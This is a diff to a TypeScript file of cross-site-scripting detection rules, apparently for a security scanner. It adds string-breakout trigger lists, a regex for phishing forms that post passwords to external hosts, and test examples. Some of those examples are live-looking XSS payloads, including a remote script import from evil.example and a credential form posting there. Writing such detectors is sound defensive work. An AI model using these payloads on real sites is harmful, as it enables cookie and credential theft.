@@ -15,6 +15,28 @@ const base = {
   references: [`${CHEAT_SHEETS}Cross_Site_Scripting_Prevention_Cheat_Sheet.html`],
 } as const;
 
+/** A quote that ends a string, and how its code goes on. */
+const BREAKS = ['"', "'"].flatMap((quote) =>
+  [';', '; ', ')', '}', '-', '+']
+    .flatMap((joint) =>
+      [
+        'top[',
+        'self[',
+        'window[',
+        'this[',
+        'parent[',
+        'import(',
+        'document.',
+        'fetch(',
+        'location',
+        'eval(',
+      ].map((head) =>
+        /[)}]/.test(joint) ? `${quote}${joint === ')' ? ');' : '});'}${head}` : quote + joint + head,
+      ),
+    )
+    .concat([`${quote}});alert`, `${quote}});confirm`, `${quote}});prompt`]),
+);
+
 export const xssRules: readonly Rule[] = [
   {
     ...base,
@@ -92,7 +114,7 @@ export const xssRules: readonly Rule[] = [
     description:
       'Markup that runs or loads script by a side door: encoded or data: URLs, srcdoc, base, imports, styles, SVG.',
     triggers:
-      'data:text/html data:x, srcdoc <meta <base rel="import" rel=import expression( text/x-scriptlet attributename= <isindex &{ +adw-script'.split(
+      'data:text/html data:x, srcdoc <meta <base <form rel="import" rel=import expression( text/x-scriptlet attributename= <isindex &{ +adw-script'.split(
         ' ',
       ),
     pattern: [
@@ -100,6 +122,7 @@ export const xssRules: readonly Rule[] = [
       'srcdoc\\s{0,3}=\\s{0,3}["\']?[^\\n]{0,200}?(?:script|\\son\\w{3,20}=)[^>]{0,100}',
       '<meta\\s[^<>]{0,60}refresh[^<>]{0,60}url\\s{0,3}=\\s{0,3}["\']?(?:javascript|data|https?):(?<!<(?:head|html|title)[^]{0,400})[^>]{1,200}',
       '<base\\s{1,3}href\\s{0,3}=\\s{0,3}["\']?(?:https?:)?//[^>]{1,200}',
+      '<form\\s[^<>]{0,100}?action\\s?=\\s?["\']?https?://(?!localhost|127\\.)[^<>]{4,200}>[^]{0,300}?<input\\s[^<>]{0,100}?(?:name|type)\\s?=\\s?["\']?(?:password|passwd|pwd|cvv|card_?number|otp)\\b[^<>]{0,100}>',
       '(?<=<link\\s)rel="?import"?\\s{1,3}href="?(?:https?:)?//[^>]{1,100}',
       '(?<=:\\s{0,3})expression\\((?:alert|eval|document|window)[^>]{0,100}',
       'text/x-scriptlet',
@@ -113,10 +136,12 @@ export const xssRules: readonly Rule[] = [
         { text: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
         { text: '[notes](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
         { text: '<base href="https://evil.example/">' },
+        { text: '<form action="https://evil.example/c" method=post><input name=password></form>' },
       ],
       no_match: [
         { text: '<meta http-equiv="refresh" content="30">' },
         { text: '<base href="/app/">' },
+        { text: '<form action="/login"><input type="password"></form>' },
         { text: 'Write &lt;script&gt; to show the tag itself.' },
         { text: '<iframe srcdoc="<p>Hello</p>"></iframe>' },
       ],
@@ -128,6 +153,7 @@ export const xssRules: readonly Rule[] = [
     confidence: 0.75,
     description: 'Text that ends a string of a script and goes on as code.',
     triggers: [
+      ...BREAKS,
       "';alert",
       '";alert',
       "'-alert",
@@ -151,10 +177,20 @@ export const xssRules: readonly Rule[] = [
       '}alert(',
     ],
     pattern:
-      '(?:["\']\\)?\\s{0,2}[;+\\-*|&]{1,2}\\s{0,2}|\\$\\{\\s{0,2}|\\*/|\\})(?:(?:alert|confirm|prompt)\\s?(?:\\(\\s?(?:\\d|document|String\\.|window|origin|[\'"]?xss)|`)|eval\\((?:atob|location|String)\\b)[^\\n]{0,80}',
+      '["\'][)\\]}]{0,3}\\s?[;+\\-*|&,]{1,2}\\s?(?:(?:top|self|window|this|parent)\\s?\\[\\s?["\'](?:[a-z0-9]{1,12}["\']\\s?\\+|(?:alert|eval|confirm|prompt|fetch)["\']\\])|import\\(\\s?["\'`](?:https?:)?//|eval\\(\\s?(?:name|window\\.name|top|document)\\b|(?:fetch\\(|(?:document\\.|window\\.)?location(?:\\.href)?\\s?=)[^\\n]{0,120}?document\\.cookie)[^\\n]{0,80}|(?:["\'][)\\]}]{0,3}\\s{0,2}[;+\\-*|&]{1,2}\\s{0,2}|\\$\\{\\s{0,2}|\\*/|\\})(?:(?:alert|confirm|prompt)\\s?(?:\\(\\s?(?:\\d|document|String\\.|window|origin|[\'"]?xss)|`)|eval\\((?:atob|location|String)\\b)[^\\n]{0,80}',
     examples: {
-      match: [{ text: "';alert(document.cookie);//" }, { text: "'-alert(1)-'" }],
-      no_match: [{ text: "const a = 'x'; alert(a);" }, { text: "say('hi');alert('Saved your work')" }],
+      match: [
+        { text: "';alert(document.cookie);//" },
+        { text: "'-alert(1)-'" },
+        { text: "';top['al'+'ert'](1);//" },
+        { text: "';import('//evil.example/x.js');//" },
+        { text: '"});alert(1);//' },
+      ],
+      no_match: [
+        { text: "const a = 'x'; alert(a);" },
+        { text: "say('hi');alert('Saved your work')" },
+        { text: "a='x';location.href='/home'" },
+      ],
     },
   },
   {
